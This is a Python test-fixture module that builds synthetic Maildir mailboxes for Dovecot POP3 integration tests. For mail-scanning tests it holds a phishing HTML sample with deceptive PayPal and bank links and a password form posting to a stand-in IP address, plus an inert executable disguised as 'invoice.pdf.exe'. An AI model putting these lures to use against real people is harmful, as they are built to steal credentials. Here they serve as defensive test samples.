"""Small, deterministic test mailboxes (Maildir) for the Dovecot integration tests.

All content is synthetic (``.example``/``.test`` domains).  Messages are stored with LF line ends,
as Maildir does; a POP3 server sends them with CRLF (``Message.wire``) and dot-stuffed.
"""

from __future__ import annotations

import base64
import os
import random
import shutil
import zlib
from dataclasses import dataclass
from pathlib import Path

# Fixed Maildir timestamps: Dovecot assigns UIDs (and so POP3 numbers) in filename-time order.
BASE_TS = 1_700_000_000
BIG_MESSAGE_BYTES = 4 * 1024 * 1024


@dataclass(frozen=True)
class Message:
    label: str
    data: bytes  # as stored in the Maildir: LF line ends, no CR

    @property
    def octets(self) -> int:
        """The size a server reports (LIST, STAT): CRLF line ends, nothing appended."""
        return len(self.data) + self.data.count(b"\n")

    @property
    def wire(self) -> bytes:
        """The message as a POP3 server transmits it before dot-stuffing (CRLF, final CRLF)."""
        crlf = self.data.replace(b"\n", b"\r\n")
        return crlf if crlf.endswith(b"\r\n") else crlf + b"\r\n"


@dataclass(frozen=True)
class User:
    name: str
    password: str
    messages: tuple[Message, ...]


def _mail(subject: str, body: bytes, extra_headers: str = "") -> bytes:
    head = (
        "From: Sender <sender@example.test>\n"
        "To: Receiver <receiver@example.test>\n"
        f"Subject: {subject}\n"
        "Date: Tue, 14 Nov 2023 22:13:20 +0000\n"
        f"Message-ID: <{zlib.crc32(subject.encode())}@example.test>\n"
        f"{extra_headers}"
        "\n"
    )
    return head.encode() + body


def _plain(n: int) -> Message:
    lines = "".join(f"Line {i} of a short plain-text message number {n}.\n" for i in range(1, 9))
    return Message(f"plain-{n}", _mail(f"Plain message {n}", lines.encode()))


def _dots() -> Message:
    body = (
        b"Dot-stuffing edge cases follow.\n"
        b".a line starting with one dot\n"
        b"..a line starting with two dots\n"
        b".\n"
        b"..\n"
        b"...\n"
        b". dot and space\n"
        b"the end (the line above the terminator must not end the message)\n"
        b".\n"
    )
    return Message("dots", _mail("Dot lines", body))


def _eight_bit() -> Message:
    body = (
        "8-bit body, UTF-8: caf\u00e9 cr\u00e8me br\u00fbl\u00e9e, \u65e5\u672c\n".encode()
        + b"Latin-1 bytes, invalid UTF-8: \xe9\xe8\xff\xfe\n"
        + b"x" * 900 + b"\n"
    )
    headers = "MIME-Version: 1.0\nContent-Type: text/plain; charset=utf-8\n"
    headers += "Content-Transfer-Encoding: 8bit\n"
    return Message("8bit", _mail("Eight bit", body, headers))


def _no_final_newline() -> Message:
    return Message("no-final-newline", _mail("No final newline", b"first line\nlast line, no LF"))


def _big(size: int = BIG_MESSAGE_BYTES) -> Message:
    rng = random.Random(1939)
    raw = base64.encodebytes(rng.randbytes(size * 3 // 4))
    lines = raw.split(b"\n")
    # Some dot lines deep inside the body: dot-stuffing must survive chunk boundaries.
    for i in range(997, len(lines) - 1, 997):
        lines[i] = b"." + lines[i] if i % 2 else b".."
    body = b"\n".join(lines)
    headers = "MIME-Version: 1.0\nContent-Type: application/octet-stream\n"
    headers += "Content-Transfer-Encoding: base64\n"
    return Message("big", _mail("Big attachment", body, headers))


def _phishing_html() -> Message:
    body = (
        b"<html><body><p>Your account is locked.</p>\n"
        b'<p><a href="http://198.51.100.7/login/verify">https://www.paypal.com/account</a></p>\n'
        b'<p>Or sign in at <a href="http://bank.example@203.0.113.9/">bank.example</a></p>\n'
        b"<form action=\"http://203.0.113.9/collect\" method=\"post\">"
        b'<input name="password" type="password"></form>\n'
        b"</body></html>\n"
    )
    headers = "MIME-Version: 1.0\nContent-Type: text/html; charset=utf-8\n"
    return Message("phish-html", _mail("Urgent: verify your account", body, headers))


def _exe_attachment() -> Message:
    exe = base64.encodebytes(b"MZ\x90\x00" + b"\x00" * 60 + b"This program cannot be run")
    body = (
        b"--b1\nContent-Type: text/plain\n\nPlease see the attached invoice.\n"
        b"--b1\nContent-Type: application/octet-stream; name=\"invoice.pdf.exe\"\n"
        b"Content-Disposition: attachment; filename=\"invoice.pdf.exe\"\n"
        b"Content-Transfer-Encoding: base64\n\n" + exe + b"--b1--\n"
    )
    headers = 'MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary="b1"\n'
    return Message("exe", _mail("Invoice", body, headers))


def users() -> tuple[User, ...]:
    """The users of the test Dovecot.  ``alice`` is read-only; ``dele*`` are for DELE tests."""
    alice = (_plain(1), _dots(), _eight_bit(), _no_final_newline(), _big(), _plain(6))
    small = (_plain(1), _plain(2), _dots())
    return (
        User("alice", "alicepw", alice),
        User("bob", "bobpw", small),
        User("dave", "d4ve p@ss%&!", small[:1]),  # a password with a space and specials
        User("empty", "emptypw", ()),
        User("dele", "delepw", small),
        # for scanning: clean and malicious mail side by side (read-only)
        User("scan", "scanpw", (_plain(1), _phishing_html(), _dots(), _exe_attachment(),
                                _no_final_newline())),
        # quarantine releases with real clients (reset before each test: no keep deletes)
        User("release", "releasepw", (_plain(1), _phishing_html())),
    )


def write_maildir(mail_root: Path, user: User, uid: int = -1, gid: int = -1) -> Path:
    """(Re)create ``mail_root/<user>/Maildir`` with the user's messages; chown if uid given."""
    home = mail_root / user.name
    if home.exists():
        shutil.rmtree(home)
    maildir = home / "Maildir"
    for sub in ("cur", "new", "tmp"):
        (maildir / sub).mkdir(parents=True)
    for n, msg in enumerate(user.messages, 1):
        (maildir / "new" / f"{BASE_TS + n}.M{n:06d}P1.popproxytest").write_bytes(msg.data)
    if uid >= 0:
        for path in (home, *home.rglob("*")):
            os.chown(path, uid, gid)
    return maildir


def passwd_file(all_users: tuple[User, ...]) -> str:
    """Dovecot passwd-file lines with PLAIN passwords (test values only)."""
    return "".join(f"{u.name}:{{PLAIN}}{u.password}::::::\n" for u in all_users)
